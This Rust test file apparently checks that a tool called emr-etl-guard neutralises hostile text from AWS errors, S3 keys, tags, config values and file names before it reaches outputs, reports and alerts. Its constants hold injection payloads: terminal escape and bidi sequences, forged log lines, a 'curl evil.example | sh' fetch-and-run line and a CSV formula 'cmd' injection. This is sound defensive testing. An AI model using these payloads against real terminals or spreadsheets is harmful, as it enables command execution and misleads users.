//! Text from others (keys, names, tags, messages of AWS, values of files) cannot control a
//! terminal, forge a line or become an action in any output.

use std::collections::BTreeMap;

use emr_simulator::{Command as Set, Fault, FaultKind, Hook, PutBucket, Timings, UpdateCluster};
use serde_json::{Value, json};

use crate::{
    alerts::to_command,
    receiver::{Answer, Receiver},
    reencrypt,
    reencrypt_trust::put,
    support::{Played, Stage, isolated_guard},
};

/// An ESC sequence, an OSC sequence, C1 controls, every kind of line end, forged lines, and
/// bidirectional controls.
const EVIL: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{85}\r\nemr-etl-guard: confirmed: \
    forged\n  fix: curl evil.example | sh\ncluster j-EVIL\u{2028}\u{202e}\u{2066}\u{200f}";
/// The same for a key; XML does not allow most of the controls, so S3 sends them URL-encoded.
const EVIL_KEY: &str = "=cmd|' /C calc'!A0\u{1b}]0;owned\u{7}\u{9b}31m\u{85}\r\nemr-etl-guard: \
    confirmed: forged\n  fix: curl evil.example | sh\ncluster \
    j-EVIL\u{2028}\u{202e}\u{2066}`<b>|*x*";

/// The characters that no output may contain: control characters except line ends, other line
/// separators, and bidirectional controls. Sources: ECMA-48; Unicode Standard Annex #9.
fn is_forbidden(letter: char) -> bool {
    (letter.is_control() && letter != '\n')
        || matches!(letter, '\u{2028}' | '\u{2029}' | '\u{61c}' | '\u{200e}' | '\u{200f}')
        || matches!(letter, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[track_caller]
fn assert_tame(what: &str, text: &str) {
    let found: String = text.chars().filter(|letter| is_forbidden(*letter)).collect();
    assert_eq!(found, "", "{what} holds {found:?}:\n{text:?}");
    for line in text.lines() {
        let forged = ["emr-etl-guard: confirmed: forged", "to do: curl", "cluster j-EVIL"];
        assert!(
            !forged.iter().any(|start| line.trim_start().starts_with(start)),
            "{what} has a forged line: {line:?}\n{text}"
        );
    }
}

/// Every string in `value`, names of members included.
fn strings(value: &Value) -> Vec<&str> {
    match value {
        Value::String(text) => vec![text],
        Value::Array(all) => all.iter().flat_map(strings).collect(),
        Value::Object(members) => members
            .iter()
            .flat_map(|(name, value)| std::iter::once(name.as_str()).chain(strings(value)))
            .collect(),
        Value::Null | Value::Bool(_) | Value::Number(_) => Vec::new(),
    }
}

/// A stage with every channel and every output format.
fn telling(stage: Stage, receiver: &Receiver) -> Stage {
    let (webhook, collector) = (receiver.url("/hook"), receiver.url(""));
    let stage = to_command(stage, "")
        .env("EMR_ETL_GUARD_ALERT_WEBHOOK", &webhook)
        .env("EMR_ETL_GUARD_ALERT_SNS", "arn:aws:sns:eu-west-1:123456789012:etl-alerts")
        .env("EMR_ETL_GUARD_LOG", "emr_etl_guard=trace")
        .env("EMR_ETL_GUARD_OTLP_ENDPOINT", &collector);
    let metrics = stage.path("guard.prom").display().to_string();
    stage.env("EMR_ETL_GUARD_METRICS_FILE", &metrics)
}

/// The formats that are rendered from the report.
fn forms(stage: &Stage) -> Vec<(String, String)> {
    let made = ["html", "markdown", "junit", "sarif", "asff", "ocsf"].map(|form| {
        let mut command = isolated_guard();
        command.args(["report", form, "report.json"]);
        stage.prepare(&mut command);
        let output = command.output().unwrap();
        let text = String::from_utf8(output.stdout).unwrap();
        assert!(!text.is_empty(), "{form}: {}", String::from_utf8_lossy(&output.stderr));
        (form.to_owned(), text)
    });
    made.into()
}

/// Checks everything that a run has written and sent; returns the alerts.
#[track_caller]
fn assert_all_tame(stage: &Stage, played: &Played, receiver: &Receiver) -> Vec<Value> {
    assert!(
        format!("{}{}", played.stdout, played.stderr).contains("forged"),
        "what is hostile is shown: {}",
        played.transcript()
    );
    assert_tame("standard output", &played.stdout);
    assert_tame("standard error", &played.stderr);
    let report = std::fs::read_to_string(stage.path("report.json")).unwrap();
    assert_tame("the report", &report);
    let findings = played.report["findings"].as_array().into_iter().flatten();
    let watched = played.report["watched"]["clusters"].as_array().into_iter().flatten();
    let of_clusters = watched.flat_map(|cluster| cluster["findings"].as_array().unwrap());
    for value in findings.chain(of_clusters).chain([&played.report["timeline"]]) {
        for text in strings(value) {
            assert_tame("a finding or a moment", text);
            assert!(!text.contains('\n'), "{text}");
        }
    }
    for (form, text) in forms(stage) {
        assert_tame(&form, &text);
    }
    assert_tame("metrics", &std::fs::read_to_string(stage.path("guard.prom")).unwrap());
    let published =
        stage.sim.with_world(|world| world.topics.values().cloned().collect::<Vec<_>>());
    for publication in published.into_iter().flatten() {
        assert_tame("the subject", publication.subject.as_deref().unwrap());
        for text in publication.messages.values() {
            assert_tame("a publication", text);
        }
    }
    for request in receiver.requests().iter().filter(|it| it.request.starts_with("POST /hook")) {
        assert_tame("the webhook", request.json()["text"].as_str().unwrap());
    }
    let mut alerts = Vec::new();
    for number in 0.. {
        let Ok(json) = std::fs::read_to_string(stage.path(&format!("alert-{number}"))) else {
            break;
        };
        assert_tame("the alert command's input", &json);
        let variables = std::fs::read_to_string(stage.path(&format!("env-{number}"))).unwrap();
        assert_tame("the alert command's environment", &variables);
        assert!(!variables.contains("GUARD_ALERT_CLUSTERS=j-EVIL"), "{variables}");
        let alert: Value = serde_json::from_str(&json).unwrap();
        for text in strings(&alert) {
            assert_tame("a part of an alert", text);
            assert!(!text.contains('\n'), "{text}");
        }
        alerts.push(alert);
    }
    assert!(!alerts.is_empty(), "there was an alert");
    alerts
}

fn said_by_aws(operation: &str) -> Set {
    let kind = FaultKind::Error {
        status: 400,
        code: "InvalidRequestException".to_owned(),
        message: EVIL.to_owned(),
    };
    Set::AddFault(Fault::every(operation, kind))
}

#[test]
fn what_aws_says_before_a_launch() {
    let receiver = Receiver::start(vec![Answer::Status(200, "")]);
    let stage = telling(Stage::acme(), &receiver);
    for operation in ["DescribeSecurityConfiguration", "GetBucketEncryption", "DescribeSubnets"] {
        stage.set(said_by_aws(operation));
    }
    let played = stage.run();
    played.expect_code(69);
    let alerts = assert_all_tame(&stage, &played, &receiver);
    for alert in &alerts {
        assert_eq!(alert["clusters"], json!([]));
        assert!(!alert["to_do"].to_string().contains("evil"), "{alert:#}");
    }
    let table = telling(Stage::acme(), &receiver)
        .option("--markdown=findings.md")
        .option("--junit=findings.xml");
    table.set(said_by_aws("DescribeSecurityConfiguration"));
    let played = table.check();
    played.expect_code(69);
    assert_tame("the table", &played.stdout);
    for file in ["findings.md", "findings.xml"] {
        let text = std::fs::read_to_string(table.path(file)).unwrap();
        assert!(text.contains("forged"), "{text}");
        assert_tame(file, &text);
    }
}

#[test]
fn what_aws_and_a_cluster_say_while_it_runs() {
    let receiver = Receiver::start(vec![Answer::Status(200, "")]);
    let stage = telling(Stage::acme(), &receiver).option("--termination-timeout=500ms");
    // The cluster does not end by itself while its end is awaited.
    stage.set(Set::SetTimings(Timings::all(3600.0)));
    let update = UpdateCluster {
        request: json!({
            "ServiceRole": EVIL, "CustomAmiId": EVIL, "LogUri": format!("s3://acme-log/{EVIL}"),
            "Tags": [{"Key": EVIL, "Value": EVIL}],
            "BootstrapActions": [{
                "Name": EVIL,
                "ScriptBootstrapAction": {"Path": EVIL, "Args": [EVIL]}
            }],
        }),
        security_configuration: Some(EVIL.to_owned()),
        configurations: Some(json!([{"Classification": EVIL, "Properties": {EVIL: EVIL}}])),
        ..UpdateCluster::default()
    };
    stage.set(Set::AddHook(Hook::after_first("RunJobFlow", vec![Set::UpdateCluster(update)])));
    for operation in ["TerminateJobFlows", "SetTerminationProtection"] {
        stage.set(said_by_aws(operation));
    }
    let played = stage.run();
    played.expect_code(71);
    let own = played.clusters();
    let alerts = assert_all_tame(&stage, &played, &receiver);
    for alert in &alerts {
        assert_eq!(alert["clusters"], json!(own), "{alert:#}");
        let ends = |action: &Value| action.as_str().unwrap().contains("terminate-clusters");
        let is_to_end = alert["to_do"].as_array().unwrap().iter().any(ends);
        assert_eq!(is_to_end, alert["kind"] == "unsafe-alive", "{alert:#}");
        for action in alert["to_do"].as_array().unwrap() {
            let action = action.as_str().unwrap();
            // If an action has to contain such a name, it is a quoted word.
            let before = action.split("curl evil").next().unwrap();
            let is_named = before.len() == action.len() || before.matches('\'').count() % 2 == 1;
            assert!(is_named, "{action}");
        }
    }
}

#[test]
fn the_keys_of_what_was_written() {
    let receiver = Receiver::start(vec![Answer::Status(200, "")]);
    let stage = telling(Stage::acme().held(), &receiver);
    let child = stage.start_held();
    // Another writer writes into the run's folders, in parallel to its steps.
    stage.release();
    let launch = stage
        .sim
        .wait_for_request(
            |request| request.operation() == "RunJobFlow",
            std::time::Duration::from_secs(120),
        )
        .unwrap();
    let folder = regex::Regex::new(r"s3://acme-out/(enriched/bad/run=[0-9-]+/)").unwrap();
    let body = serde_json::to_string(&launch.body).unwrap();
    let folder = folder.captures(&body).unwrap()[1].to_owned();
    put(&stage, "acme-out", &format!("{folder}{EVIL_KEY}"));
    let played = stage.finish(child);
    played.expect_code(75);
    let alerts = assert_all_tame(&stage, &played, &receiver);
    for alert in &alerts {
        assert!(!alert["to_do"].to_string().contains("curl"), "{alert:#}");
        assert!(!alert["clusters"].to_string().contains("EVIL"), "{alert:#}");
    }
}

fn words(stage: &Stage, words: &[&str]) -> Played {
    let mut command = isolated_guard();
    command.args(words);
    stage.prepare(&mut command);
    stage.play(command)
}

#[test]
fn the_keys_of_an_audit_are_exact_for_programs_and_tame_for_people() {
    let stage = Stage::acme();
    stage.set(Set::PutBucket(PutBucket { name: "acme-old".to_owned(), ..PutBucket::default() }));
    let keys = [EVIL_KEY, "+1", "-1", "@SUM(A1)", "'quoted", r"\u{1b}", "plain"];
    for key in keys {
        put(&stage, "acme-old", key);
    }
    for list in ["list.csv", "list.jsonl", "list.manifest"] {
        let offenders = format!("--offenders={list}");
        let played = words(&stage, &["audit", "s3://acme-old", &offenders, "--report=report.json"]);
        played.expect_code(77);
        assert_tame("standard output", &played.stdout);
        assert_tame("standard error", &played.stderr);
        assert_tame(list, &std::fs::read_to_string(stage.path(list)).unwrap());
    }
    assert_tame("the report", &std::fs::read_to_string(stage.path("report.json")).unwrap());
    assert_tame("the page", &words(&stage, &["report", "html", "report.json"]).stdout);

    let lines = std::fs::read_to_string(stage.path("list.jsonl")).unwrap();
    let listed: Vec<Value> =
        lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let mut exact: Vec<&str> = listed.iter().map(|line| line["key"].as_str().unwrap()).collect();
    let mut wanted = keys.to_vec();
    exact.sort_unstable();
    wanted.sort_unstable();
    assert_eq!(exact, wanted, "a program gets the keys as they are");

    let mut table = csv::Reader::from_path(stage.path("list.csv")).unwrap();
    let cells: Vec<String> = table.records().map(|row| row.unwrap()[1].to_owned()).collect();
    for cell in &cells {
        assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell}");
    }
    let read: BTreeMap<&str, &str> = listed
        .iter()
        .map(|line| line["key"].as_str().unwrap())
        .zip(cells.iter().map(String::as_str))
        .collect();
    assert_eq!(read["plain"], "plain");
    assert_eq!(read["+1"], "'+1");
    assert_eq!(read["'quoted"], "''quoted", "what is marked can be told from what was there");
    assert_eq!(read[r"\u{1b}"], r"\u{5c}u{1b}");
    assert!(read[EVIL_KEY].starts_with(r"'=cmd|' /C calc'!A0\u{1b}]0;owned\u{7}"), "{read:?}");
    let manifest = std::fs::read_to_string(stage.path("list.manifest")).unwrap();
    for line in manifest.lines() {
        let key = line.strip_prefix("acme-old,").unwrap();
        assert!(!key.starts_with(['=', '+', '-', '@']), "{line}");
        let key = percent_encoding::percent_decode_str(key).decode_utf8().unwrap();
        assert!(keys.contains(&&*key), "{line}");
    }
}

#[test]
fn the_keys_of_a_repair() {
    let stage = reencrypt::stage(PutBucket::default());
    reencrypt::put(&stage, EVIL_KEY, reencrypt::unencrypted("x"));
    let (code, message) = ("InvalidRequest".to_owned(), in_xml());
    stage.set(Set::AddFault(Fault::every(
        "CopyObject",
        FaultKind::Error { status: 400, code, message },
    )));
    let report = ["--report", "report.json"];
    let dry = reencrypt::reencrypt(&stage, &[&["s3://old"], &report[..]].concat());
    assert!(dry.report["locations"][0]["found"].to_string().contains("forged"), "{}", dry.report);
    let done = reencrypt::apply(&stage, &report);
    done.expect_code(75);
    assert!(done.stderr.contains("forged"), "{}", done.transcript());
    for played in [&dry, &done] {
        assert_tame("standard output", &played.stdout);
        assert_tame("standard error", &played.stderr);
    }
    assert_tame("the report", &std::fs::read_to_string(stage.path("report.json")).unwrap());
    let page = words(&stage, &["report", "html", "report.json"]).stdout;
    assert!(page.contains("forged"), "{page}");
    assert_tame("the page", &page);
}

/// The hostile text in a form that XML allows.
fn in_xml() -> String {
    EVIL.replace(['\u{1b}', '\u{7}'], "")
}

/// As YAML in double quotes, which can escape any character.
fn in_yaml(text: &str) -> String {
    let quoted = serde_json::to_string(text).unwrap();
    let letters = quoted.chars().map(|letter| match letter {
        '\0'..='\u{7e}' => letter.to_string(),
        other => format!("\\u{:04x}", u32::from(other)),
    });
    letters.collect()
}

#[test]
fn values_of_files_arguments_and_names_of_files() {
    let quoted = in_yaml(EVIL);
    let evil_file = format!("{}.yml", EVIL.replace('/', ":"));
    let named = format!("security_configuration: {quoted}");
    let with_settings = |text: String| {
        let stage = Stage::acme().option("--settings=guard.yml");
        stage.write("guard.yml", &text);
        stage.run()
    };
    let mut told = vec![
        // Values and keys of the runner config.
        Stage::acme().replace("security_configuration: acme-sc", &named).run(),
        Stage::acme().replace("ami_version: 5.29.0", &format!("ami_version: {quoted}")).run(),
        Stage::acme()
            .replace("good: s3://acme-out/enriched/good", &format!("good: {quoted}"))
            .run(),
        Stage::acme().replace("aws:\n", &format!("aws:\n  {quoted}: [\n")).run(),
        // Keys and values of the settings.
        with_settings(format!("{quoted}: 1\n")),
        with_settings(format!("erb: {quoted}\n")),
        with_settings(format!("metrics_labels: {{pipeline: {quoted}}}\n")),
        // Arguments of the guard and of the runner, names of files, and of the runner.
        Stage::acme().option(&format!("--{EVIL}")).run(),
        Stage::acme().option(&format!("--only={EVIL}")).check(),
        Stage::acme().argument(&format!("--skip={EVIL}")).run(),
        Stage::acme().env("EMR_ETL_GUARD_RUNNER", &format!("/no/{evil_file}")).run(),
    ];
    let mut elsewhere = Stage::acme();
    elsewhere.arguments = ["run", "-c", &evil_file].map(str::to_owned).to_vec();
    told.push(elsewhere.run());
    // The version that the runner prints.
    let unversioned = Stage::acme().scripted("exit 1");
    unversioned.write("runner", &format!("#!/bin/sh\ncat <<'END'\n{EVIL}\nEND\n"));
    told.push(unversioned.run());
    let document = Stage::acme();
    std::fs::write(document.path(&evil_file), "no document").unwrap();
    told.push(words(&document, &["report", "html", &evil_file]));
    told.push(words(&document, &["explain", EVIL]));

    for (number, played) in told.iter().enumerate() {
        assert_ne!(played.code, Some(0), "case {number}: {}", played.transcript());
        assert!(!played.runner_started(), "case {number}: {}", played.transcript());
        let what = format!("case {number}");
        assert_tame(&what, &played.stdout);
        assert_tame(&what, &played.stderr);
        assert_tame(&what, &serde_json::to_string(&played.report["findings"]).unwrap());
    }
    let sealed = Stage::acme().replace("security_configuration: acme-sc", &named).option("--diff");
    let shown = sealed.play(sealed.command("seal"));
    shown.expect_code(0);
    assert!(shown.stdout.contains("forged"), "{}", shown.transcript());
    assert_tame("what sealing changes", &shown.stdout);
}
